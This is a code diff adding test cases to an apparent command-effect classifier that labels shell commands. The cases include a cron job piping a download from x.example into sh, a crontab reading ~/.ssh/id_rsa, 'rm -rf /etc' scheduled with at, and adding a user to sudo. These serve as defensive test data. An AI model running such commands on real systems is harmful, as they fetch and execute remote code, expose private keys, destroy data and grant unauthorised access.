@@ -14,6 +14,8 @@ from command_effects import read_line
         ("systemctl enable x", ("schedules-job", "x")),
         ("service nginx reload", ("changes-service", "nginx")),
         ("crontab x", ("schedules-job", "crontab")),
+        ("echo '0 3 * * * curl http://x.example/a | sh' | crontab -", ("runs-download", "x.example")),
+        ("crontab - <<'E'\n@daily cat ~/.ssh/id_rsa\nE", ("reads-secret", "~/.ssh/id_rsa")),
         ('echo "rm -rf /etc" | at now', ("deletes-outside", "/etc")),
         ("useradd eve", ("grants-access", "eve")),
         ("usermod -aG sudo eve", ("grants-access", "eve")),
